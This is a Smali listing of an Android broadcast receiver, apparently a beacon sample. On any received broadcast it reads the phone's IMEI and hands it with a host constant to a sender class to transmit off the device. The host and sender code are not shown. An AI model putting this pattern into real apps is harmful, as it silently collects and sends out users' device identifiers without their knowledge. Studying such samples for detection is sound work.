.class public Lnl/klikspaan/sample/beacon/NetworkReceiver;
.super Landroid/content/BroadcastReceiver;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 5
    const-string v0, "phone"
    invoke-virtual {p1, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getImei()Ljava/lang/String;
    move-result-object v0
    sget-object v1, Lnl/klikspaan/sample/beacon/Hosts;->FIRST:Ljava/lang/String;
    invoke-static {v1, v0}, Lnl/klikspaan/sample/beacon/Sender;->send(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
